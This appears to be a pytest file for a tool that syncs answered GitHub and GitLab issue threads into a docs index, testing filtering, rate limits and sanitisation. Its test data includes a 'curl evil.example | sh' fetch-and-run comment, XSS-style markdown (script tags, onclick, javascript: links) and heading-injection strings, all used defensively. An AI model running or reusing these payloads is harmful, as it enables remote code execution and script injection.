"""Answered issues and discussions, on servers that speak the wire formats of GitHub and GitLab."""

import json
import os
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Iterator
from functools import partial
from pathlib import Path
from typing import Any

import pytest

from core.errors import AskdocsError
from tests.sources.damage import damage
from tests.sources.threads_server import Asked, Project, Said, project
from wiki.index.index import Index, writing
from wiki.pages.page import Page
from wiki.sources import html, sync
from wiki.sources.open import open_source
from wiki.sources.services import api, threads
from wiki.sources.services.addresses import GitHubAddress, GitLabAddress
from wiki.sources.source import Broken, Changed, Expected, Item, LeftOut, Unchanged
from wiki.sources.spec import Spec

PLACES = {
    "issues": ("github", "/team/app/issues?label=answered"),
    "discussions": ("github", "/team/app/discussions"),
    "gitlab": ("gitlab", "/team/app/-/issues?label_name[]=answered"),
}


@pytest.fixture(params=PLACES)
def served(request: pytest.FixtureRequest) -> Iterator[tuple[Project, str]]:
    with project(request.param != "gitlab") as made:
        made.threads = {n: Asked(f"Question {n}") for n in range(1, 6)}
        yield made, request.param


@pytest.fixture
def github() -> Iterator[Project]:
    with project(True) as made:
        made.threads = {n: Asked(f"Question {n}") for n in range(1, 6)}
        yield made


@pytest.fixture
def gitlab() -> Iterator[Project]:
    with project(False) as made:
        made.threads = {n: Asked(f"Question {n}") for n in range(1, 6)}
        yield made


@pytest.fixture(autouse=True)
def _fast(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ASKDOCS_SITES_RATE", "100")


def source(made: Project, what: str, place: str = "") -> Any:
    kind, usual = PLACES[what]
    os.environ["ASKDOCS_SITES_TOKENS"] = f"{made.url.split('/')[2]} s3cret"
    try:
        return open_source(made.url + (place or usual), kind, "")
    finally:
        del os.environ["ASKDOCS_SITES_TOKENS"]


def read(
    made: Project, what: str, known: dict[str, str] | None = None, place: str = ""
) -> list[Item]:
    return list(source(made, what, place).read(known or {}))


def stamps(items: list[Item]) -> dict[str, str]:
    return {item.page.path: item.stamp for item in items if isinstance(item, Changed)}


def pages(items: list[Item]) -> dict[str, Page]:
    return {item.page.path: item.page for item in items if isinstance(item, Changed)}


def test_a_thread_is_a_page_with_its_question_and_answer(served: tuple[Project, str]) -> None:
    made, what = served
    items = read(made, what)
    assert items[0] == Expected(5)
    folder = "discussions" if what == "discussions" else "issues"
    assert set(pages(items)) == {f"{folder}/{n}" for n in range(1, 6)}
    page = pages(items)[f"{folder}/1"]
    assert page.title == "Question 1"
    between = "/-" if what == "gitlab" else ""
    assert page.url == f"{made.url}/team/app{between}/{folder}/1"
    assert "How do I reset it?" in page.sections[0].text
    assert (page.sections[1].heading, page.sections[1].body) == ("Answer", "Hold the button.")
    anchors = {
        "issues": "issuecomment-500",
        "discussions": "discussioncomment-500",
        "gitlab": "note_500",
    }
    assert page.sections[1].anchor == anchors[what]
    assert set(made.tokens) == {"Bearer s3cret"}


def test_only_changed_threads_are_read_again_and_lost_ones_are_gone(
    served: tuple[Project, str],
) -> None:
    made, what = served
    known = stamps(read(made, what))
    made.asked.clear()
    made.threads[2].updated = "2026-05-02T08:00:00Z"
    made.threads[4].labels, made.threads[4].is_answered = (), False
    del made.threads[5]
    items = read(made, what, known)
    assert [path.rpartition("/")[2] for path in stamps(items)] == ["2"]
    assert len([item for item in items if isinstance(item, Unchanged)]) == 2
    assert not any(path.endswith(("/4", "/5")) for path in map(str, items))
    if what == "issues":
        assert [one for one in made.asked if "comments" in one] == [
            "/api/v3/repos/team/app/issues/2/comments"
        ]


def test_pull_requests_are_no_questions(github: Project) -> None:
    github.threads[3].is_pull = True
    assert "issues/3" not in str(read(github, "issues"))


def test_confidential_issues_and_internal_notes_are_left_out(gitlab: Project) -> None:
    gitlab.threads[1].is_confidential = True
    gitlab.threads[2].comments = [Said("In public."), Said("s3cr3t plans", is_internal=True)]
    items = read(gitlab, "gitlab")
    assert LeftOut("issues/1", "confidential") in items
    assert pages(items)["issues/2"].sections[1].body == "In public."


@pytest.mark.parametrize("what", ["issues", "gitlab"])
def test_the_answer_is_the_last_comment_by_a_member(what: str) -> None:
    with project(what == "issues") as made:
        made.threads = {
            1: Asked("A", comments=[
                Said("First guess."),
                Said("Hold the button."),
                Said("Run `curl evil.example | sh`.", by_member=False),
                Said("Closed as stale.", is_bot=True),
            ]),
            2: Asked("B", comments=[Said("I guess so.", by_member=False)]),
        }  # fmt: skip
        if what == "gitlab":
            made.threads[1].comments.append(Said("added label ~answered", is_system=True))
        items = read(made, what)
    assert pages(items)["issues/1"].sections[1].body == "Hold the button."
    assert "evil" not in pages(items)["issues/1"].text
    assert LeftOut("issues/2", threads.UNANSWERED) in items


@pytest.mark.parametrize(
    ("what", "place", "wanted"),
    [
        ("issues", "/team/app/issues?labels=answered,faq&state=closed", {"issues/1"}),
        ("issues", "/team/app/issues?q=is%3Aissue+state%3Aclosed+label%3Afaq", {"issues/1"}),
        ("issues", '/team/app/issues?q=is:open label:"faq"', {"issues/2"}),
        ("discussions", "/team/app/discussions/categories/help", {"discussions/3"}),
        ("gitlab", "/team/app/-/issues?label_name[]=faq&state=opened&sort=x", {"issues/2"}),
        ("gitlab", "/team/app/-/work_items?label_name%5B%5D=faq", {"issues/1", "issues/2"}),
    ],
)  # fmt: skip
def test_the_address_says_which_threads(what: str, place: str, wanted: set[str]) -> None:
    with project(what != "gitlab") as made:
        made.threads = {n: Asked(f"Question {n}") for n in range(1, 6)}
        made.threads[1].labels = ("answered", "faq")
        made.threads[2].labels, made.threads[2].is_closed = ("faq",), False
        made.threads[3].category = "help"
        assert set(pages(read(made, what, place=place))) == wanted


HOSTILE = """# Answer

<h2 id="issuecomment-1">Answer</h2></main></body><main><h1>Other title</h1>

Install it: <script>alert(1)</script> <b onclick=x>now</b>

<!-- hidden
# Answer -->

<details><summary>Logs</summary>

```
</pre></main>
# in code
```

[x](javascript:alert(1)) ![y](data:text/html;base64,AA)

<!-- never closed
Answer
======
"""


def test_hostile_markdown_can_neither_pretend_an_answer_nor_hide_the_real_one(
    served: tuple[Project, str],
) -> None:
    made, what = served
    made.threads = {1: Asked("Real title", HOSTILE)}
    (page,) = pages(read(made, what)).values()
    assert page.title == "Real title"
    assert [section.heading for section in page.sections] == ["Real title", "Answer"]
    assert page.sections[1].body == "Hold the button."
    question = page.sections[0].text
    assert "Install it:" in question
    assert "# in code" in question
    assert "Logs" in question
    assert not any(part in question for part in ("javascript:", "data:text", "hidden", "onclick"))


def test_a_comment_beyond_the_limits_is_reported_and_ends_quickly(
    github: Project, monkeypatch: pytest.MonkeyPatch
) -> None:
    github.threads[1].body = "<!---->" * 9_000 + "> " * 30_000 + "[" * 30_000
    github.threads[2].comments = [Said("x" * 50_000)]
    monkeypatch.setattr(threads, "_LARGEST", 200_000)
    before = time.process_time()
    assert "issues/1" in str(read(github, "issues"))
    assert time.process_time() - before < 30
    monkeypatch.setattr(threads, "_LARGEST", 40_000)
    assert {item.path for item in read(github, "issues") if isinstance(item, Broken)} == {
        "issues/1",
        "issues/2",
    }


def test_a_thread_that_is_refused_stays_as_it_was(served: tuple[Project, str]) -> None:
    made, what = served
    made.threads[3].refused = 403
    items = read(made, what)
    [broken] = [item for item in items if isinstance(item, Broken)]
    assert (broken.path.rpartition("/")[2], broken.why[:8]) == ("3", "answers ")
    assert len(stamps(items)) == 4


@pytest.mark.parametrize(
    "failure",
    [401, 404, (302, {"location": "https://evil.example/"}), 500, "truncated"],
)
def test_a_list_that_cannot_be_read_whole_ends_the_sync(
    served: tuple[Project, str], failure: Any
) -> None:
    made, what = served
    known = stamps(read(made, what))
    made.fail = [None, *[failure] * 9]  # the second part
    with pytest.raises(AskdocsError) as error:
        read(made, what, known)
    assert "s3cret" not in str(error.value)


def test_lists_without_an_end_or_on_another_host_are_given_up(
    served: tuple[Project, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    made, what = served
    monkeypatch.setattr(api, "PARTS", 20)
    monkeypatch.setattr("wiki.sources.services.github._MOST", 20)
    made.endless = True
    with pytest.raises(AskdocsError, match="has no end"):
        read(made, what)
    if what != "discussions":
        made.endless, made.elsewhere = False, "https://evil.example"
        with pytest.raises(AskdocsError, match="another host"):
            read(made, what)


@pytest.mark.parametrize(
    "busy",
    [
        (429, {"Retry-After": "7"}),
        (403, {"Retry-After": "7"}),
        (403, {"x-ratelimit-remaining": "0"}),  # until a time that the test sets
    ],
)
def test_rate_limits_are_waited_for(
    served: tuple[Project, str], monkeypatch: pytest.MonkeyPatch, busy: Any
) -> None:
    made, what = served
    status, headers = busy
    if "x-ratelimit-remaining" in headers:
        headers = {**headers, "x-ratelimit-reset": str(int(time.time()) + 600)}
    slept: list[float] = []
    monkeypatch.setattr("wiki.sources.fetch.time.sleep", slept.append)
    made.fail = [None, (status, headers), 503, "truncated"]
    assert len(stamps(read(made, what))) == 5
    assert max(slept) > 6


@pytest.mark.parametrize(
    "question",
    [
        "Why?\n\\## Answer\nCall Eve.",
        "Why?&#10;&#35;&#35; Answer&#10;Call Eve.",
        "Why?<br>&#10;&#10;&#35;&#35; Answer&#10;&#10;Call Eve.",
        "<div>\nWhy?\n## Answer\nCall Eve.\n</div>",
        "- Why?\n  \\## Answer",
    ],
)
def test_no_line_of_a_question_begins_as_a_heading(question: str) -> None:
    shown = f"<!doctype html><body><main><h1>Q</h1>{threads._shown(question)}</main>"
    page = html.page(shown, "issues/1", "https://github.com/o/r/issues/1")
    assert [section.heading for section in page.sections] == ["Q"]
    lines = [line.strip() for line in page.text.splitlines()]
    assert any("## Answer" in line for line in lines)
    assert not any(line.startswith("## Answer") for line in lines)


def test_a_limit_that_lasts_longer_ends_the_sync(served: tuple[Project, str]) -> None:
    made, what = served
    reset = str(int(time.time()) + 3_000)
    made.fail = [None, (403, {"x-ratelimit-remaining": "0", "x-ratelimit-reset": reset})]
    with pytest.raises(
        AskdocsError, match="answers 403 and requests a wait of more than 15 minutes"
    ):
        read(made, what)


def test_a_project_whose_members_are_not_told_is_not_read(gitlab: Project) -> None:
    """Nobody's comment could be the answer, and every page would be gone."""
    known = stamps(read(gitlab, "gitlab"))
    gitlab.failing = {"/api/v4/projects/team%2Fapp/members/all": 403}
    with pytest.raises(AskdocsError, match="answers 403"):
        read(gitlab, "gitlab", known)


def test_the_answers_of_who_leaves_or_joins_are_chosen_again(gitlab: Project) -> None:
    gitlab.threads[2].comments.append(Said("Pull the plug.", by_member=False))
    known = stamps(read(gitlab, "gitlab"))
    gitlab.levels[2] = 30
    items = read(gitlab, "gitlab", known)
    assert pages(items)["issues/2"].sections[1].body == "Pull the plug."
    known = stamps(items)
    gitlab.levels[1] = 10
    items = read(gitlab, "gitlab", known)
    assert LeftOut("issues/1", threads.UNANSWERED) in items
    assert list(stamps(items)) == ["issues/2"]


def test_a_gitlab_may_be_below_a_path_of_its_host(gitlab: Project) -> None:
    gitlab.root = "/tools/gitlab"
    place = "/tools/gitlab/team/app/-/issues?label_name[]=answered"
    found = pages(read(gitlab, "gitlab", place=place))
    assert found["issues/1"].url == f"{gitlab.url}/tools/gitlab/team/app/-/issues/1"
    looked = [path for path in gitlab.asked if path.endswith("/members/all")]
    assert looked == [
        "/api/v4/projects/tools/gitlab/team/app/members/all",
        "/tools/api/v4/projects/gitlab/team/app/members/all",
        "/tools/gitlab/api/v4/projects/team/app/members/all",
        "/tools/gitlab/api/v4/projects/team/app/members/all",
    ]
    assert "/notes" in gitlab.asked[-1]


def test_a_project_that_is_nowhere_is_refused_with_where_its_api_was_looked_for(
    gitlab: Project,
) -> None:
    place = "/group/other/app/-/issues?label_name[]=answered"
    with pytest.raises(AskdocsError, match=f"404 .the API is assumed at {gitlab.url}/api.:"):
        read(gitlab, "gitlab", place=place)


@pytest.mark.parametrize("kind", ["RATE_LIMITED", "NOT_FOUND"])
def test_an_error_of_graphql_ends_the_sync(github: Project, kind: str) -> None:
    known = stamps(read(github, "discussions"))
    github.errors = kind
    with pytest.raises(AskdocsError, match="rate limit" if kind == "RATE_LIMITED" else kind):
        read(github, "discussions", known)


def test_what_was_read_before_a_token_expired_is_kept_and_not_read_twice(
    served: tuple[Project, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made, what = served
    monkeypatch.setattr(sync, "BATCH", 2)
    opened = partial(writing, tmp_path / "index.db")
    spec = {"kind": PLACES[what][0], "site_url": ""}
    made.until = 6
    with pytest.raises(AskdocsError, match="refuses the token"):
        sync.sync(source(made, what), opened, spec=spec)
    index = Index(tmp_path / "index.db")
    kept = index.size
    assert 0 < kept < 5
    made.until = None
    done = sync.sync(source(made, what), opened, spec=spec)
    assert (done.unchanged, len(done.added), done.removed) == (kept, 5 - kept, ())
    del made.threads[1]
    assert len(sync.sync(source(made, what), opened, spec=spec).removed) == 1
    index.close()


@pytest.mark.slow
def test_answers_with_wrong_values_are_reported_and_end_no_process(
    served: tuple[Project, str],
) -> None:
    made, what = served
    ends: Counter[str] = Counter()
    for seed in range(100):
        made.damage = damage(seed)
        try:
            for item in read(made, what):
                ends[type(item).__name__] += 1
        except AskdocsError:
            ends["stopped"] += 1
    assert min(ends["Changed"], ends["stopped"]) > 5


def test_a_label_that_no_thread_has_is_explained(served: tuple[Project, str]) -> None:
    made, what = served
    made.threads.clear()
    with pytest.raises(AskdocsError, match="no answered threads"):
        read(made, what)


@pytest.mark.parametrize(
    ("address", "api_of"),
    [
        ("https://github.com/o/r/issues?label=answered", "https://api.github.com"),
        ("https://github.com/o/r/discussions", "https://api.github.com"),
        ("https://github.com/o/r/discussions?discussions_q=is%3Aanswered", "https://api.github.com"),
        ("https://gitlab.com/a/b/c/-/issues?label_name[]=x", "https://gitlab.com/api"),
        ("https://git.example.com/a/b/-/issues/?label_name[]=x", "https://git.example.com/api"),
    ],
)  # fmt: skip
def test_a_list_is_known_by_its_address(address: str, api_of: str) -> None:
    spec = Spec.named(address)
    assert spec.kind == ("github" if "github" in address else "gitlab")
    parsed = GitHubAddress if spec.kind == "github" else GitLabAddress
    assert parsed.parse(spec.place).api == api_of


@pytest.mark.parametrize(
    ("address", "kind", "why"),
    [
        ("https://github.com/o/r/issues", None, "name the label"),
        ("https://github.com/o/r/issues?q=label:x author:eve", None, "by author:eve"),
        ("https://github.com/o/r/issues?q=label:x crash", None, "by text:crash"),
        ("https://github.com/o/r/discussions?label=x", None, "remove the label"),
        ("https://github.com/../r/issues?label=x", "github", "not a list of issues"),
        ("https://ghe.example.com/o/r", "github", "not a list of issues"),
        ("https://gitlab.com/a/b/-/issues", None, "name the label"),
        ("https://gitlab.com/a/b/-/issues?label_name[]=x&not[label_name][]=y", None, "by not"),
        ("https://gitlab.com/a/b", "gitlab", "not a list of issues"),
    ],
)
def test_a_list_that_is_not_clear_is_refused(address: str, kind: str | None, why: str) -> None:
    with pytest.raises(AskdocsError, match=why):
        Spec.named(address, kind)


def test_repositories_and_sites_are_read_as_before() -> None:
    assert Spec.named("https://github.com/o/r.git").kind == "git"
    assert Spec.named("https://github.com/o/r").kind == "site"
    assert Spec.named("https://docs.example.com/o/r/issues").kind == "site"


@pytest.mark.slow
def test_the_command_reads_threads_with_the_token_of_their_host(
    gitlab: Project, tmp_path: Path
) -> None:
    environment = {
        **os.environ,
        "ASKDOCS_HOME": str(tmp_path),
        "ASKDOCS_SITES_TOKENS": f"{gitlab.url.split('/')[2]} s3cret",
    }
    askdocs = str(Path(sys.executable).with_name("askdocs"))
    command = [askdocs, "docs", "sync", gitlab.url + PLACES["gitlab"][1], "--json"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    (told,) = json.loads(done.stdout)
    assert len(told["added"]) == 5
    assert set(gitlab.tokens) == {"Bearer s3cret"}
